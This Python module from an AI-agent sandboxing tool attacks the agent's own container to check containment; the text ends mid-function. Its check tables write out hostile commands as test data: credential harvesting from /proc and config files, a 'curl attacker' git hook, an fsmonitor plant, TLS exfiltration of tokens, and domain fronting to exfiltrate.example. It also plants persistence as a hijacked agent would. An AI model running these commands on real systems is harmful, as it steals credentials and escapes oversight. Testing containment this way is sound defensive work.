"""``claude-bottle verify``: start an agent's bottle, attack it from inside, and say what happened.

The bottle is the agent's own (its allowlist, mounts, limits and images) with three stand-ins: a throwaway
credential, a stub Messages API as the upstream, and a scratch workspace. A second stub plays a host outside
the bottle, on a private address: the gate could reach it, the bottle must not. Attacks on files, processes and
privileges run in the bottle as the agent user; attacks on the network run in its network namespace (see
``claude_bottle.probe``). Nothing here needs an Anthropic account or spends a token.
"""

from __future__ import annotations

import base64
import contextlib
import dataclasses
import json
import secrets
import socket
import string
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import docker
import docker.errors
from docker.models.containers import Container

from claude_bottle.agent.schema import AgentConfig
from claude_bottle.credentials import Credential
from claude_bottle.errors import DockerError, GateError
from claude_bottle.gate.ca import RunCA
from claude_bottle.gate.routes import CredentialRoute, new_sentinel
from claude_bottle.gate.settings import Limits, parse_upstream
from claude_bottle.launch import Launch, Progress, build_images, interrupt, on_stop_signals, started
from claude_bottle.persistence import Plants, make_repository, share
from claude_bottle.policy.addresses import parse_network
from claude_bottle.policy.hosts import Allowlist, parse_pattern
from claude_bottle.policy.rules import HostRules, make_host_rules
from claude_bottle.probe import Outcome
from claude_bottle.runtime import engine
from claude_bottle.runtime.bottle import (
    AGENT_LABEL,
    API_PORT,
    LABEL,
    RUN_LABEL,
    Run,
    create_container,
    network_gateways,
    remove_run,
    state_volume,
)

STUB_PORT = 8000
PRIVATE_NAME = f"canary:{STUB_PORT}"  # allowlisted on purpose: the name resolves to a private address
FRONT = "front"  # an allowed host the bottle may reach (its address too), to attack what tunnels carry
# HTTPS stand-ins the gate inspects: one open to any request (DLP alone judges what it carries), one under
# the read-only rules of the -read presets. Their CA is verify's own, trusted by the gate toward them only.
INSPECTED, READ_ONLY = "inspected", "registry"
TLS_PORT = 8443
PUBLIC_IPV4 = ("1.1.1.1", "8.8.8.8")
PUBLIC_IPV6 = ("2606:4700:4700::1111",)
PROBE_SECONDS = 120
# Names the bottle looks up without the gate: the first one this host resolves, so that an address in the bottle
# proves a resolver there forwards what it does not know (a way out for any name the bottle makes up).
LOOKUP_NAMES = ("api.anthropic.com", "registry.npmjs.org", "pypi.org", "deb.debian.org")
LOOKUP_SECONDS = 5.0
# Resolvers a bottle may try without being told of them: Docker's embedded one, and slirp4netns's (rootless
# Podman's way out of its network namespace), whose address for the host, SLIRP_HOST, is the host's loopback
# when allow_host_loopback is set.
WELL_KNOWN_RESOLVERS = ("127.0.0.11", "10.0.2.3")
SLIRP_HOST = "10.0.2.2"
# The host-side name of the stand-ins' bridge: unlike a bottle's (runtime/bottle.py BRIDGE_PREFIX), the host
# serves the gate there (Podman's resolver answers on the bridge's address).
STAND_IN_BRIDGE = "stand-"


class HostCanary:
    """A TCP and a UDP socket on every address of the Docker host: anything arriving came from a bottle that
    reached the host. Nothing is read or answered; pending connections and datagrams are only counted."""

    def __init__(self) -> None:
        for _ in range(20):
            self.tcp = socket.create_server(("0.0.0.0", 0))
            self.port = self.tcp.getsockname()[1]
            self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try:
                self.udp.bind(("0.0.0.0", self.port))
                break
            except OSError:
                self.close()
        else:
            raise DockerError("cannot open a listening port on this host for the host-reachability check")
        self.tcp.setblocking(False)
        self.udp.setblocking(False)

    def arrivals(self) -> list[str]:
        seen = []
        for sock in (self.tcp, self.udp):
            with contextlib.suppress(BlockingIOError):
                while True:
                    if sock is self.tcp:
                        conn, peer = sock.accept()
                        conn.close()
                        seen.append(f"TCP from {peer[0]}")
                    else:
                        seen.append(f"UDP from {sock.recvfrom(2048)[1][0]}")
        return seen

    def close(self) -> None:
        self.tcp.close()
        self.udp.close()


@dataclass
class Verification:
    """A started bottle under test and what the attacks need to know about it."""

    run: Run
    credential: Credential
    stub: Container  # the stub Messages API, the gate's upstream
    canary: Container  # a host outside the bottle that the gate could reach
    gate_image: str
    host: HostCanary
    host_addresses: tuple[str, ...]
    https: dict[str, Container]  # the HTTPS stand-ins the gate inspects, by name
    attacker_key: str = dataclasses.field(default_factory=lambda: "sk-ant-api03-attacker-" + secrets.token_hex(16))


def throwaway_credential() -> Credential:
    return Credential.parse("sk-ant-oat01-verify-" + secrets.token_urlsafe(48), "the throwaway credential")


def _scratch_workspace(root: str) -> Path:
    """A project with a repository in it: a real one where git is installed, so that what a bottle plants for
    the host's git is judged by the host's git."""
    workspace = Path(root) / "workspace"
    workspace.mkdir()
    if not make_repository(workspace, Path(root)):
        (workspace / ".git" / "hooks").mkdir(parents=True)
        (workspace / ".git" / "config").write_text("[core]\n")
    share(workspace)
    return workspace


def _wait_for_log(container: Container, line: str, what: str, seconds: float = 30) -> None:
    deadline = time.monotonic() + seconds
    while line not in (logs := container.logs().decode("utf-8", "replace")):
        container.reload()
        if container.status in ("exited", "dead") or time.monotonic() > deadline:
            raise GateError(f"{what} did not start: {logs.strip()[-300:] or 'no output'}")
        time.sleep(0.1)


def stub_container(client: docker.DockerClient, image: str, network: str, alias: str, name: str,
                   labels: dict[str, str], tls: Path | None = None) -> Container:
    """A stub Messages API from the gate image, known on ``network`` as ``alias``, logging each request; with
    ``tls`` (a PEM file of a chain and key, mounted read-only), on HTTPS port ``TLS_PORT``."""
    port, served = (STUB_PORT, []) if tls is None else (TLS_PORT, ["--tls", "/opt/stub/tls.pem"])
    container = client.containers.create(
        image, entrypoint=["/opt/gate/bin/python", "-m", "claude_bottle", "stub-upstream", "--listen",
                           f"{alias}:{port}", "--log", *served],
        name=name, labels=labels, network=network,
        networking_config={network: client.api.create_endpoint_config(aliases=[alias])},
        volumes={str(tls): {"bind": "/opt/stub/tls.pem", "mode": "ro"}} if tls else None,
        cap_drop=["ALL"], security_opt=["no-new-privileges"], read_only=True)
    container.start()
    _wait_for_log(container, "stub upstream on", f"the {alias} container")
    return container


def _gateways(client: docker.DockerClient, names: list[str]) -> tuple[str, ...]:
    found = []
    for name in names:
        with contextlib.suppress(docker.errors.NotFound):
            found += network_gateways(client.networks.get(name))
    return tuple(dict.fromkeys(found))


@dataclass
class StandIns:
    """What every bottle of a verify run is started against: the throwaway credential, the stub upstream and a
    host outside the bottle (and an allowed front host) on a network only gates join, and the host canary."""

    client: docker.DockerClient
    agent: AgentConfig  # the agent under test, with the stand-ins allowed
    credential: Credential
    stub: Container
    canary: Container
    gate_image: str
    outside: str  # the network of the stand-ins
    host: HostCanary
    progress: Progress
    https: dict[str, Container]  # the HTTPS stand-ins by name (INSPECTED, READ_ONLY)
    https_ca: Path  # their CA, trusted by the gate toward them
    workspaces: list[Path] = dataclasses.field(default_factory=list)  # scratch projects bottles were started on


@contextlib.contextmanager
def stand_ins(agent: AgentConfig, progress: Progress, credential: Credential | None = None) -> Iterator[StandIns]:
    """The stand-ins, removed on the way out (Ctrl-C included), with every bottle started against them."""
    credential = credential or throwaway_credential()
    verify_hex = secrets.token_hex(4)
    verify_id = f"verify-{verify_hex}"
    labels = {LABEL: "1", RUN_LABEL: verify_id, AGENT_LABEL: agent.name}
    workspaces: list[Path] = []
    with on_stop_signals(interrupt), tempfile.TemporaryDirectory(prefix="claude-bottle-verify-tls-") as tls:
        client = engine.connect()
        host = HostCanary()
        try:
            _, gate_image = build_images(client, agent, progress)
            progress("starting the stub upstream and a host outside the bottle")
            outside = client.networks.create(f"claude-bottle-{verify_id}-outside", driver="bridge", internal=True,
                                             options={"com.docker.network.bridge.name": STAND_IN_BRIDGE + verify_hex},
                                             labels=labels)
            stub, canary, front = (stub_container(client, gate_image, outside.name, alias,
                                                  f"claude-bottle-{verify_id}-{alias}", labels)
                                   for alias in ("stub", "canary", FRONT))
            # The stand-ins speak plain HTTP, and these attacks are on what an opaque tunnel carries: tunnels to
            # them stay opaque (still under the first-flight check), else the gate's own TLS to them would fail
            # before any attack reached them.
            opaque = tuple(HostRules(parse_pattern(p), inspect=False) for p in (PRIVATE_NAME, f"{FRONT}:{STUB_PORT}",
                                                                               FRONT))
            ca, files = _https_files(Path(tls))
            https = {name: stub_container(client, gate_image, outside.name, name, f"claude-bottle-{verify_id}-{name}",
                                          labels, files[name]) for name in (INSPECTED, READ_ONLY)}
            tested = dataclasses.replace(
                agent, allow=Allowlist((*agent.allow.patterns, *(parse_pattern(p) for p in (
                    PRIVATE_NAME, f"{FRONT}:{STUB_PORT}", FRONT, f"{INSPECTED}:{TLS_PORT}")))),
                egress=dataclasses.replace(agent.egress, hosts=(*agent.egress.hosts, *opaque, *inspected_rules())),
                allow_private=(*agent.allow_private,
                               *(parse_network(f"{_address(c)}/32") for c in (front, *https.values()))))
            yield StandIns(client, tested, credential, stub, canary, gate_image, outside.name, host, progress, https,
                           ca, workspaces)
        except docker.errors.APIError as exc:
            raise DockerError(f"verify: {exc.explanation or exc}") from None
        finally:
            with on_stop_signals(lambda signum, frame: None):
                remove_run(client, verify_id)
                for workspace in workspaces:  # the scratch projects' Claude state: of no later use
                    with contextlib.suppress(docker.errors.APIError):
                        client.volumes.get(state_volume(agent.name, workspace)).remove(force=True)
            host.close()


def inspected_rules() -> tuple[HostRules, ...]:
    """The ``[[egress]]`` entries of the HTTPS stand-ins: the read-only one under the rules of the -read
    presets (GET and HEAD only); the open one needs none (it is in the allowlist, so inspected)."""
    return (make_host_rules(f"{READ_ONLY}:{TLS_PORT}", allow=["GET /**", "HEAD /**"]),)


def _https_files(folder: Path) -> tuple[Path, dict[str, Path]]:
    """A CA for the HTTPS stand-ins' names only, and a leaf for each: (the CA's certificate, the leaves
    with their keys), as files in ``folder`` (readable by the stand-ins' and the gate's users)."""
    ca = RunCA.generate(Allowlist.parse([INSPECTED, READ_ONLY]).patterns)
    files = {"ca": ca.certificate_pem, **{name: ca.issue(name) for name in (INSPECTED, READ_ONLY)}}
    paths = {}
    for name, data in files.items():
        paths[name] = folder / f"{name}.pem"
        paths[name].write_bytes(data)
        paths[name].chmod(0o644)
    return paths.pop("ca"), paths


@contextlib.contextmanager
def bottle_on(env: StandIns, workspace: Path) -> Iterator[Verification]:
    """A sleeping bottle of the agent on ``workspace``, started the way ``start`` would, against the stand-ins;
    the run is removed on the way out (its Claude state stays until the stand-ins go, for later bottles)."""
    env.workspaces.append(workspace)
    # The agent's credential routes get throwaway values too: verify never reads the user's.
    routes = tuple(CredentialRoute(c.spec(new_sentinel(c.name)), "verify-" + secrets.token_urlsafe(24))
                   for c in env.agent.credentials)
    launch = Launch(env.agent, workspace, env.credential, parse_upstream(f"http://stub:{STUB_PORT}"), (env.outside,),
                    upstream_ca_files=(env.https_ca,), routes=routes)
    # The run's review of protected files is verify's own business (the persistence group judges it).
    with started(launch, env.progress, review=lambda report: None) as run:
        assert run.internal is not None and run.egress is not None
        run.start_bottle(["sleep", "infinity"])
        yield Verification(run, env.credential, env.stub, env.canary, env.gate_image, env.host,
                           _gateways(env.client, ["bridge", run.internal.name, run.egress.name, env.outside]),
                           env.https)


@contextlib.contextmanager
def verification(agent: AgentConfig, progress: Progress,
                 credential: Credential | None = None) -> Iterator[Verification]:
    """The agent's bottle on a scratch workspace, started against the stand-ins; everything is removed on the
    way out, Ctrl-C included."""
    with tempfile.TemporaryDirectory(prefix="claude-bottle-verify-") as scratch, \
            stand_ins(agent, progress, credential) as env, bottle_on(env, _scratch_workspace(scratch)) as target:
        yield target


# ---- attacks in the bottle, as the agent user --------------------------------------------------------------

def in_bottle(run: Run, script: str, stdin: str | None = None) -> tuple[int, str]:
    """``script`` in bash in the bottle, as the agent user (the bottle's own); ``stdin`` goes in as a
    here-document (a pipe, never a file or argv)."""
    bottle = run.bottle
    assert bottle is not None
    if stdin is not None:
        script = f"{script} <<'__CLAUDE_BOTTLE_END__'\n{stdin}\n__CLAUDE_BOTTLE_END__"
    code, output = bottle.exec_run(["bash", "-c", script])
    return code, output.decode("utf-8", "replace")


@dataclass(frozen=True)
class Check:
    group: str
    attack: str
    expected: str
    script: str
    judge: Callable[[int, str, str], tuple[str, bool]]  # (exit code, output, secret) -> (actual, blocked)


def _no_secret(what: str) -> Callable[[int, str, str], tuple[str, bool]]:
    def judge(code: int, output: str, secret: str) -> tuple[str, bool]:
        return (f"the credential is in {what}", False) if secret in output else (f"not in {what}", True)
    return judge


def _nothing(found: str, none: str) -> Callable[[int, str, str], tuple[str, bool]]:
    """Blocked when the output is empty; else ``found`` and the first few items."""
    def judge(code: int, output: str, secret: str) -> tuple[str, bool]:
        items = output.split()
        return (f"{found}: {' '.join(items[:5])}", False) if items else (none, True)
    return judge


def _fails(code: int, output: str, secret: str) -> tuple[str, bool]:
    if code == 0:
        return "it worked", False
    return (output.strip().splitlines()[-1:] or ["failed"])[0][-80:], True


def _status_field(name: str, wanted: str) -> Callable[[int, str, str], tuple[str, bool]]:
    def judge(code: int, output: str, secret: str) -> tuple[str, bool]:
        values = dict(line.split(":", 1) for line in output.splitlines() if ":" in line)
        value = values.get(name, "missing").strip()
        return f"{name} {value}", value == wanted
    return judge


def _gate_hidden(code: int, output: str, secret: str) -> tuple[str, bool]:
    seen = [line for line in output.splitlines() if "claude_bottle" in line or "--token-file" in line]
    return (f"visible: {seen[0].strip()[:60]}", False) if seen else (f"{len(output.splitlines()) - 1} "
                                                                     "processes, none of the gate's", True)


CREDENTIAL, PRIVILEGE = "credential discovery", "privilege and persistence"
BOTTLE_CHECKS = (
    Check(CREDENTIAL, "environment variables", "no credential", "env", _no_secret("the environment")),
    Check(CREDENTIAL, "every readable /proc/*/environ and cmdline", "no credential",
          "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'", _no_secret("/proc")),
    Check(CREDENTIAL, "the process list", "no gate process visible", "ps -eo pid,user,args", _gate_hidden),
    Check(CREDENTIAL, "Claude Code's config files", "no credential",
          "cat ~/.claude.json; find ~/.claude /etc/claude-code -type f -exec cat {} + 2>/dev/null; true",
          _no_secret("Claude's config")),
    Check(PRIVILEGE, "effective capabilities", "none", "cat /proc/self/status", _status_field("CapEff", "0" * 16)),
    Check(PRIVILEGE, "bounding capabilities", "none", "cat /proc/self/status", _status_field("CapBnd", "0" * 16)),
    # prctl(PR_GET_NO_NEW_PRIVS), which gVisor answers; its /proc/self/status has no NoNewPrivs line
    Check(PRIVILEGE, "no-new-privileges", "set", "setpriv -d 2>&1", _status_field("no_new_privs", "1")),
    Check(PRIVILEGE, "setuid and setgid programs", "none",
          "find / -xdev -type f -perm /6000 2>/dev/null", _nothing("found", "none found")),
    Check(PRIVILEGE, "a Docker socket", "none",
          "find / \\( -path /proc -o -path /sys \\) -prune -o -type s -name '*docker*' -print 2>/dev/null; "
          "curl -s -m 3 --unix-socket /var/run/docker.sock http://docker/version; true",
          _nothing("found", "none found")),
    Check(PRIVILEGE, "write a hook into the workspace's .git/hooks", "refused",
          "echo 'curl attacker' > /workspace/.git/hooks/pre-commit", _fails),
    Check(PRIVILEGE, "change the workspace's .git/config", "refused",
          "echo '[core] fsmonitor = attacker' >> /workspace/.git/config", _fails),
    Check(PRIVILEGE, "write outside the workspace and home", "refused everywhere",
          "for d in / /etc /usr/bin /usr/local/bin /opt /var /root; do "
          "touch $d/.claude-bottle-probe 2>/dev/null && echo $d; done; true", _nothing("writable", "refused in each")),
)

# Last, once every other check is done: the needle goes in on stdin, so this grep is the only process that
# holds it. Exit 1 means nothing was found; 2 means some files were unreadable, which is fine.
FILE_SEARCH = Check(CREDENTIAL, "a search of the whole file system and home directory", "not found",
                    "grep -rlsF -D skip -f /dev/stdin / --exclude-dir=proc --exclude-dir=sys",
                    _nothing("found in", "not found"))


def held_values(target: Verification) -> tuple[str, ...]:
    """What the bottle must never find: the throwaway credential and each credential route's value."""
    return (target.credential.secret, *(route.secret for route in target.run.spec.routes))


def judged_for_each(check: Check, code: int, output: str, values: tuple[str, ...]) -> tuple[str, bool]:
    """``check``'s verdict for every value: blocked only if blocked for each; the first leak otherwise."""
    verdicts = [check.judge(code, output, value) for value in values]
    return next((v for v in verdicts if not v[1]), verdicts[0])


def bottle_attacks(target: Verification) -> list[Outcome]:
    outcomes = []
    values = held_values(target)
    for check in (*BOTTLE_CHECKS, FILE_SEARCH):
        code, output = in_bottle(target.run, check.script, "\n".join(values) if check is FILE_SEARCH else None)
        actual, blocked = judged_for_each(check, code, output, values)
        outcomes.append(Outcome(check.group, check.attack, check.expected, actual, blocked))
    return outcomes


# ---- attacks inside TLS the gate terminates, from the bottle ---------------------------------------------

INSPECTION = "inspected https"
FILLER = 300_000  # bytes of an upload before its secret: many reads and scanner tails in


@dataclass(frozen=True)
class Inspected:
    """One request the bottle sends with curl to an HTTPS stand-in the gate inspects, and how it must end.
    ``path`` is the attack's own, so the stand-in's log tells whether it arrived; ``$S`` in ``curl`` is the
    secret, which reaches the bottle on curl's shell's standard input only."""

    attack: str
    expected: str
    host: str
    path: str
    curl: str
    status: int  # the refusal the gate must answer
    secret: Callable[[Verification], str] = lambda target: ""
    upload: bool = False  # curl sends its standard input chunked: FILLER bytes, then the secret on a line


def _github_token() -> str:
    return "ghp_" + "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(36))


def _base64(value: str) -> str:
    return base64.b64encode(value.encode()).decode()


def _credential(target: Verification) -> str:
    return target.credential.secret


INSPECTED_ATTACKS = (
    Inspected("the credential in the URL of a request inside TLS", "refused (DLP)", INSPECTED, "/verify/url",
              '"{url}?q=$S"', 403, _credential),
    Inspected("the credential in a request header inside TLS", "refused (DLP)", INSPECTED, "/verify/header",
              '-H "X-Note: $S" {url}', 403, _credential),
    Inspected("the credential in a JSON body inside TLS", "refused (DLP)", INSPECTED, "/verify/body",
              "-H 'Content-Type: application/json' -d \"{{\\\"note\\\": \\\"$S\\\"}}\" {url}", 403, _credential),
    Inspected("the credential in base64, 300 KB into a chunked upload", "refused (DLP)", INSPECTED,
              "/verify/upload", "-T - -H 'Transfer-Encoding: chunked' {url}", 403,
              lambda target: _base64(target.credential.secret), upload=True),
    Inspected("a GitHub token (ghp_...) in a request header inside TLS", "refused (DLP)", INSPECTED,
              "/verify/github", '-H "Authorization: token $S" {url}', 403, lambda target: _github_token()),
    Inspected("a Host header naming exfiltrate.example inside the tunnel (domain fronting)", "refused (421)",
              INSPECTED, "/verify/fronted", "-H 'Host: exfiltrate.example' {url}", 421),
    Inspected(f"PUT to {READ_ONLY}, which read-only rules cover (a publish)", "refused (rule)", READ_ONLY,
              "/verify/publish", "-X PUT --data-binary 'a package' {url}", 403),
)
CONTROLS = tuple(Inspected(f"a clean GET inside TLS to {host} (the control)", "reaches the stand-in", host,
                           "/verify/control", "{url}", 404) for host in (INSPECTED, READ_ONLY))


def _curl(target: Verification, request: Inspected, secret: str = "") -> tuple[int | None, str]:
    """Send ``request`` with ``secret`` from the bottle: (the final response status or None, its X-Deny-Reason,
    or curl's last words when no answer came). The attacker does not care whose certificate answers (``-k``):
    the attack is on what passes, not on trust."""
    command = (f"curl -k -sS --suppress-connect-headers --max-time 20 -o /dev/null -D - "
               f"{request.curl.format(url=f'https://{request.host}:{TLS_PORT}{request.path}')}")
    if request.upload:
        command = (f"{{ head -c {FILLER} /dev/zero | tr '\\0' a; printf '\\n%s\\n' \"$S\"; }} | {command}")
    _, output = in_bottle(target.run, f"{{ read -r S; {command}; }} 2>&1", secret)
    heads = [head for head in output.split("\r\n\r\n") if head.startswith("HTTP/")]
    if not heads:
        return None, (output.strip().splitlines()[-1:] or ["no answer"])[0][-80:]
    lines = heads[-1].split("\r\n")
    reason = next((line.split(":", 1)[1].strip() for line in lines if line.lower().startswith("x-deny-reason:")), "")
    return int(lines[0].split()[1]), reason


def _arrived(container: Container, path: str) -> list[str]:
    """What the stand-in logged of requests to ``path``: their targets and headers, as JSON."""
    lines = container.logs(stdout=True, stderr=False).decode("utf-8", "replace").splitlines()
    return [line for line in lines if line.startswith("{") and json.loads(line)["target"].startswith(path)]


def inspection_attacks(target: Verification) -> list[Outcome]:
    """Exfiltration inside TLS to allowed hosts, fronting by Host, a write under read-only rules: each must
    be refused by the gate with its reason and never reach the stand-in. The controls must reach it, else
    the refusals prove nothing and each attack counts as a leak."""
    control_ok = True
    outcomes = []
    for control in CONTROLS:
        status, reason = _curl(target, control)
        arrived = bool(_arrived(target.https[control.host], control.path))
        control_ok &= arrived
        outcomes.append(Outcome(INSPECTION, control.attack, control.expected,
                                f"answered {status}" if arrived else f"did not arrive ({status or reason})", arrived))
    for request in INSPECTED_ATTACKS:
        secret = request.secret(target)
        status, reason = _curl(target, request, secret)
        got = _arrived(target.https[request.host], request.path)
        shown = f"HTTP {status}{f' ({reason})' if reason else ''}" if status else reason
        if got:
            actual, blocked = f"the stand-in got it ({shown})", False
        elif secret and secret in reason:
            actual, blocked = "the refusal quotes the secret", False
        elif not control_ok:
            actual, blocked = f"inconclusive: the control did not arrive either ({shown})", False
        else:
            actual, blocked = shown, status == request.status and bool(reason)
        outcomes.append(Outcome(INSPECTION, request.attack, request.expected, actual, blocked))
    return outcomes


SENTINELS = "credential routes"


def sentinel_attacks(target: Verification) -> list[Outcome]:
    """For each credential route of the agent: its sentinel sent out through the allowed channel every bottle
    has, the API route (in a Messages body, and as the request's credential), must be refused before it
    reaches the upstream."""
    outcomes = []
    api = f"http://{target.run.gate_ip}:{API_PORT}/v1/messages"
    for route in target.run.spec.routes:
        sentinel = route.spec.sentinel
        body = json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 16,
                           "messages": [{"role": "user", "content": f"remember {sentinel}"}]})
        name = route.spec.name
        for attack, headers in ((f"route {name}'s sentinel in a Messages body", ""),
                                (f"route {name}'s sentinel in a request header", f"-H 'x-note: {sentinel}' ")):
            _, output = in_bottle(target.run, f"curl -s -o /dev/null -w '%{{http_code}}' -m 20 {headers}"
                                              f"-H 'content-type: application/json' --data-binary @- {api}", body)
            arrived = any(sentinel in json.dumps(r) for r in _stub_requests(target))
            blocked = output.strip() == "403" and not arrived
            actual = "reached the upstream" if arrived else f"answered {output.strip() or 'nothing'}"
            outcomes.append(Outcome(SENTINELS, attack, "refused (403)", actual, blocked))
    return outcomes


# ---- attacks on the network, from the bottle's namespace ---------------------------------------------------

def resolvable_name(names: tuple[str, ...] = LOOKUP_NAMES, seconds: float = LOOKUP_SECONDS) -> tuple[str, bool]:
    """The first of ``names`` that this host resolves (all looked up at once, for at most ``seconds``: a lookup
    still hanging then is left to finish on its own) and True; else the first name and False."""
    resolved: set[str] = set()

    def look(name: str) -> None:
        with contextlib.suppress(OSError):
            socket.getaddrinfo(name, 443, type=socket.SOCK_STREAM)
            resolved.add(name)

    lookups = [threading.Thread(target=look, args=(name,), daemon=True) for name in names]
    deadline = time.monotonic() + seconds
    for lookup in lookups:
        lookup.start()
    for lookup in lookups:
        lookup.join(max(0.0, deadline - time.monotonic()))
    return next(((name, True) for name in names if name in resolved), (names[0], False))


def bottle_nameservers(run: Run) -> list[str]:
    """The nameservers in the bottle's /etc/resolv.conf."""
    _, output = in_bottle(run, "cat /etc/resolv.conf")
    return [fields[1] for fields in (line.split() for line in output.splitlines())
            if len(fields) > 1 and fields[0] == "nameserver"]


def lookup_in_bottle(run: Run, name: str) -> Outcome:
    """``name`` looked up the way any program in the bottle would (its resolver, through the C library)."""
    _, output = in_bottle(run, f"getent ahostsv4 {name}")
    addresses = sorted({line.split()[0] for line in output.splitlines() if line.strip()})
    actual = f"resolved to {', '.join(addresses[:3])}" if addresses else "no address"
    return Outcome("direct egress", f"a lookup of {name} through the bottle's resolver", "no address", actual,
                   not addresses)


def network_attacks(target: Verification) -> list[Outcome]:
    """The probe in a container sharing the bottle's network namespace, as the agent user, unprivileged; and a
    name lookup in the bottle itself."""
    run = target.run
    assert run.bottle is not None and run.gate is not None
    name, resolves_here = resolvable_name()
    targets = {
        "gate": run.gate_ip, "api_port": 8080, "proxy_port": 3128,
        "canary_ip": _address(target.canary), "canary_port": STUB_PORT, "private_name": PRIVATE_NAME,
        "api_host": f"stub:{STUB_PORT}", "unlisted_host": "exfiltrate.example", "attacker_key": target.attacker_key,
        "host_port": target.host.port, "host_addresses": list(target.host_addresses),
        "public_ipv4": list(PUBLIC_IPV4), "public_ipv6": list(PUBLIC_IPV6),
        "front_host": FRONT, "front_port": STUB_PORT,
        "header_timeout": Limits().header_timeout, "max_connections": Limits().max_connections,
        "dns_name": name, "resolvers": [*bottle_nameservers(run), *WELL_KNOWN_RESOLVERS],
        "host_loopback": [SLIRP_HOST],
    }
    probe = create_container(
        run.client, target.gate_image, f"container:{run.bottle.id}" if run.spec.userns else "",
        entrypoint=["/opt/gate/bin/python", "-m", "claude_bottle.probe", json.dumps(targets)],
        name=f"claude-bottle-{run.id}-probe", labels=run.labels, network_mode=f"container:{run.bottle.id}",
        user=run.spec.user, cap_drop=["ALL"], security_opt=["no-new-privileges"],
        read_only=True)
    try:
        probe.start()
        status = probe.wait(timeout=PROBE_SECONDS)
        output = probe.logs(stdout=True, stderr=False).decode("utf-8", "replace")
        if status.get("StatusCode"):
            raise GateError(f"the network probe failed: {probe.logs(stdout=False, stderr=True).decode()[-500:]}")
    finally:
        with contextlib.suppress(docker.errors.NotFound):
            probe.remove(force=True)
    outcomes = [Outcome(**json.loads(line)) for line in output.splitlines() if line.startswith("{")]
    outcomes.append(lookup_in_bottle(run, name))
    if not resolves_here:  # nothing resolved, but nothing would have: say so
        outcomes = [dataclasses.replace(o, actual=f"{o.actual} ({name} does not resolve on this host either)")
                    if o.blocked and o.expected in ("no address", "no address comes back") else o for o in outcomes]
    return [_judged_by_evidence(target, o) for o in outcomes] + [_host_arrivals(target)]


def _address(container: Container) -> str:
    container.reload()
    return str(next(iter(container.attrs["NetworkSettings"]["Networks"].values()))["IPAddress"])


def _judged_by_evidence(target: Verification, outcome: Outcome) -> Outcome:
    """What came back from the gate is the proof: the credential must never be in it, the attacker's key
    must never reach the upstream, which must get the real credential instead, and a request asking the
    provider to reach out for the bottle must never reach the upstream."""
    secret = target.credential.secret
    if secret in outcome.evidence:
        return dataclasses.replace(outcome, actual="the credential came back", blocked=False)
    if outcome.expected == "the credential never comes back":
        return dataclasses.replace(outcome, actual=f"not in the answer: {outcome.actual}", blocked=True)
    if outcome.expected == "refused before the upstream":
        forbidden = outcome.attack.rsplit(" ", 1)[-1]  # the field or server-tool type the attack adds
        got = [r for r in _stub_requests(target) if forbidden in r.get("fields", []) + r.get("tool_types", [])]
        if got:
            return dataclasses.replace(outcome, actual=f"the upstream got {forbidden}", blocked=False)
        return dataclasses.replace(outcome, blocked=True, actual=f"the upstream never got it: {outcome.actual}")
    if outcome.expected == "stripped before the upstream":
        seen = _stub_requests(target)
        attacker = [r for r in seen if target.attacker_key in json.dumps(r["headers"])]
        injected = [r for r in seen if f"Bearer {secret}" in json.dumps(r["headers"])]
        if attacker:
            return dataclasses.replace(outcome, actual="the upstream got the attacker's key", blocked=False)
        return dataclasses.replace(outcome, blocked=bool(injected),
                                   actual="upstream got the real credential only" if injected else
                                   f"the upstream got no credential ({outcome.actual})")
    return outcome


def _stub_requests(target: Verification) -> list[dict[str, Any]]:
    lines = target.stub.logs(stdout=True, stderr=False).decode("utf-8", "replace").splitlines()
    return [json.loads(line) for line in lines if line.startswith("{")]


def _host_arrivals(target: Verification) -> Outcome:
    arrived = target.host.arrivals()
    return Outcome("direct egress", f"anything at a listener on the Docker host (port {target.host.port})",
                   "nothing arrives", ", ".join(arrived[:3]) if arrived else "nothing arrived", not arrived)


def inspect_outcome(target: Verification) -> Outcome:
    """Seen from the host: what `docker inspect` shows of the bottle and the gate."""
    run = target.run
    shown = ""
    for container in (run.bottle, run.gate):
        assert container is not None
        container.reload()
        shown += json.dumps(container.attrs)
    found = any(value in shown for value in held_values(target))
    return Outcome(CREDENTIAL, "docker inspect of the bottle and the gate (from the host)", "no credential",
                   "the credential is shown" if found else "not shown", not found)


def attack(target: Verification) -> list[Outcome]:
    """Every attack on one bottle; those that carry the credential into it (in a pipe) after the file search."""
    return [*network_attacks(target), *bottle_attacks(target), *sentinel_attacks(target),
            *inspection_attacks(target), inspect_outcome(target)]


def verify(agent: AgentConfig, progress: Progress) -> list[Outcome]:
    """Every attack on one bottle of the agent, then the persistence group: what that bottle planted, judged
    on the host once it is gone, and in two later bottles (another project's, and the same project's)."""
    with tempfile.TemporaryDirectory(prefix="claude-bottle-verify-") as scratch, \
            stand_ins(agent, progress) as env:
        plants = Plants(Path(scratch), _scratch_workspace(scratch))
        try:
            with bottle_on(env, plants.workspace) as target:
                progress(f"attacking the bottle of agent {agent.name}")
                outcomes = attack(target)
                progress("planting what a hijacked agent would leave for later")
                in_bottle(target.run, plants.first_script())
                first = target.run.id
            outcomes += plants.after_first(first, env.credential.secret)
            plants.forget()  # as the user would, once they had reviewed the changes
            progress("the next bottle of the same project")
            with bottle_on(env, plants.workspace) as again:
                output = in_bottle(again.run, plants.next_script())[1]
            outcomes += plants.after_next(output)
            progress("a bottle of the same agent on another project")
            with bottle_on(env, plants.other) as other:
                output = in_bottle(other.run, plants.other_script())[1]
            outcomes += plants.after_other(output)
        finally:
            plants.forget()
        return outcomes


# ---- the report --------------------------------------------------------------------------------------------

def report(outcomes: list[Outcome]) -> str:
    width = max(len(o.attack) for o in outcomes)
    expected = max(len(o.expected) for o in outcomes)
    lines = []
    for group in dict.fromkeys(o.group for o in outcomes):
        lines.append(group.upper())
        for o in (o for o in outcomes if o.group == group):
            lines.append(f"  {'blocked' if o.blocked else 'LEAK   '}  {o.attack:<{width}}  {o.expected:<{expected}}  "
                         f"{o.actual}")
    leaks = sum(not o.blocked for o in outcomes)
    lines.append(f"{len(outcomes)} attacks: " + (f"{leaks} LEAKED" if leaks else "every one blocked"))
    return "\n".join(lines)


def as_json(agent: AgentConfig, outcomes: list[Outcome]) -> str:
    return json.dumps({
